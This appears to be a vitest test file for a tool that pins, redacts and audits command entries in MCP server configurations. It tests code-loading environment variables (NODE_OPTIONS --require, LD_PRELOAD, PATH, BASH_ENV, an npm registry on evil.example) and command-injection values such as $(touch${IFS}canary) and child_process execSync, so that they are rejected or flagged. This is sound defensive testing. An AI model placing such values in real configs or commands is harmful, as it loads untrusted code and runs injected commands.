import { describe, expect, test } from 'vitest';
import { fillWords, pinWord } from '../../src/model/filled.ts';
import { secretSpans, withoutSecretWords } from '../../src/model/secret-spans.ts';
import { machine } from '../support/cli.ts';

const home = { home: '/home/me' };

/** The words as a lock pins them, and those of them that stay in the entry. */
function pinned(words: readonly string[]) {
  const spans = secretSpans(words);
  const pin = words.map((word, at) => pinWord(word, spans[at] ?? [], home));
  return { pin, isOpen: (at: number) => pin[at]?.includes('{{client}}') === true };
}

describe('T4: an entry that was approved with something like a secret in it does not load other code later', () => {
  test.each<[string, readonly string[]]>([
    ['a program that Node loads first', ['env', 'NODE_OPTIONS=--require=/tmp/evil.cjs', 'node', 'server.js']],
    ['a library for every program', ['env', 'LD_PRELOAD=evil.so', 'node', 'server.js']],
    ['one with a random name', ['env', 'NODE_OPTIONS=--require=/tmp/0123456789abcdef0123456789abcdef.cjs', 'node', 'server.js']],
    ['where programs are looked for', ['docker', 'run', '-e', 'PATH=evil:/usr/bin', 'image']],
    ['where npm gets packages', ['env', 'NPM_CONFIG_REGISTRY=https://evil.example/', 'npm', 'exec', 'server']],
    ['behind the name of an option', ['docker', 'run', '--env=BASH_ENV=evil.sh', 'image']],
  ])('%s: pinned and shown as it is', (_, words) => {
    expect(withoutSecretWords(words)).toEqual(words);
    expect(words.some((_word, at) => pinned(words).isOpen(at))).toBe(false);
  });
  test('a password in an address is a secret all the same', () => {
    const words = ['env', 'npm_config_registry=https://me:pass@npm.example/', 'npm', 'exec', 'server'];
    expect(withoutSecretWords(words)).toContain('npm_config_registry=https://filled-in@npm.example/');
  });
  test.each<[string, readonly string[], string]>([
    ['a shell', ['bash', '-c', 'TOKEN=abc'], 'TOKEN=$(touch${IFS}canary)'],
    ['a shell that logs in', ['bash', '-lc', 'TOKEN=abc'], 'TOKEN=a;touch${IFS}canary'],
    ['Windows', ['cmd', '/c', 'TOKEN=abc'], 'TOKEN=a&canary'],
    ['Node', ['/usr/bin/node', '-e', 'token=abc'], 'token=require("child_process").execSync("canary")'],
    ['Node, in another spelling', ['env', 'node20', '--eval', 'apiKey=abc'], 'apiKey=eval(canary)'],
  ])('a program in the place of a secret, for %s: not started', (_, words, value) => {
    const { pin, isOpen } = pinned(words);
    expect(words.map((_word, at) => isOpen(at))).toEqual([...words.slice(1).map(() => false), true]);
    expect(fillWords(pin, [words.at(-1) ?? ''], home)).toEqual({ words });
    expect(fillWords(pin, [value], home)).toEqual({ why: 'value 1 that the entry hands on would be read as a program of its own' });
  });
  test('a variable for a container is no program', () => {
    const words = ['docker', 'run', '-e', 'API_KEY=abc', 'image'];
    expect(fillWords(pinned(words).pin, ['API_KEY=a$b(c)'], home)).toHaveProperty('words');
  });
});

test.each<[string, readonly string[], string]>([
  ['a program in its place', ['bash', '-c', 'TOKEN=abc'], 'TOKEN=$(touch${IFS}canary)'],
  ['a second word of a line', ['bash', '-c', 'TOKEN=abc node server.js'], 'TOKEN=abc;touch${IFS}canary node server.js'],
  ['an option', ['node', 'server.js', '--token', 'abc'], '--eval=canary'],
])('audit says of an adopted entry that it was edited to hand on %s', async (_, [command = '', ...args], value) => {
  const m = await machine();
  m.write('.cursor/mcp.json', JSON.stringify({ mcpServers: { notes: { command, args } } }));
  expect((await m.person(['y'], 'adopt', '--all')).code).toBe(0);
  const audited = async () => JSON.stringify(JSON.parse((await m.run('audit', '--json', '--offline')).stdout));
  expect(await audited()).not.toContain('entry-drifted');
  const config = JSON.parse(m.read('.cursor/mcp.json'));
  config.mcpServers.notes.args.splice(-1, 1, value);
  m.write('.cursor/mcp.json', JSON.stringify(config));
  expect(await audited()).toContain('entry-drifted');
});
